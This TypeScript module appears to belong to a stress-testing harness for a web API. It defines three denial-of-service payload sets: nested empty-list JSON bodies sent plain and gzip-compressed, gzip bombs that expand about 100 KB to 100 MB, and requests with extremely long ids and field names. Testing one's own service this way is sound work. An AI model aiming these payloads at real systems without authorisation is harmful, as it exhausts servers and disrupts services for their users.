import { gzipSync } from 'node:zlib';
import { type Attack, scaled } from '../attack.ts';
import { fire, JSON_BODY, repeat, type Shot } from '../requests.ts';

const BODY_BYTES = 510_000;
const BODIES = 100;
const AT_ONCE = 8;
const BOMB_BYTES = 100_000_000;

/** Small to send, long to look at: nothing but empty lists, and one escape for which texts are looked at too. */
export const emptyLists: Attack = {
  name: 'bodies of empty lists, plain and packed',
  prepare: async target => {
    const lists = `["\\u0041"${',[]'.repeat(BODY_BYTES / 3)}]`;
    const packed = gzipSync(lists);
    const plain: Shot = { method: 'POST', path: '/api/products', headers: JSON_BODY, body: lists };
    const small: Shot = { ...plain, headers: { ...JSON_BODY, 'content-encoding': 'gzip' }, body: packed };
    return async signal => {
      const shots = repeat(scaled(target, BODIES), index => (index % 2 === 0 ? plain : small));
      return String(await fire(target.url, shots, AT_ONCE, signal));
    };
  },
};

/** 100 KB that would be 100 MB. */
export const gzipBombs: Attack = {
  name: 'gzip bombs',
  prepare: async target => {
    const body = gzipSync(Buffer.alloc(BOMB_BYTES, ' '));
    const headers = { ...JSON_BODY, 'content-encoding': 'gzip' };
    const bomb: Shot = { method: 'POST', path: '/api/products', headers, body };
    return async signal =>
      String(
        await fire(
          target.url,
          repeat(scaled(target, BODIES), () => bomb),
          AT_ONCE,
          signal,
        ),
      );
  },
};

/** Unstorable text under a path as long as the body. */
export const longPaths: Attack = {
  name: 'unknown ids and fields of great length',
  prepare: async target => async signal => {
    const id = 'i'.repeat(12_000);
    const long = 'f'.repeat(BODY_BYTES - 1_000);
    const shots = repeat(scaled(target, BODIES * 4), index => shotOf(index, id, long));
    return String(await fire(target.url, shots, AT_ONCE, signal));
  },
};

function shotOf(index: number, id: string, long: string): Shot {
  if (index % 2 === 0) return { path: `/api/products/${id}` };
  const body = index % 4 === 1 ? { [long]: '\u0000' } : { chatId: long, senderType: 'AGENT' };
  return { method: 'POST', path: '/api/messages', headers: JSON_BODY, body: JSON.stringify(body) };
}
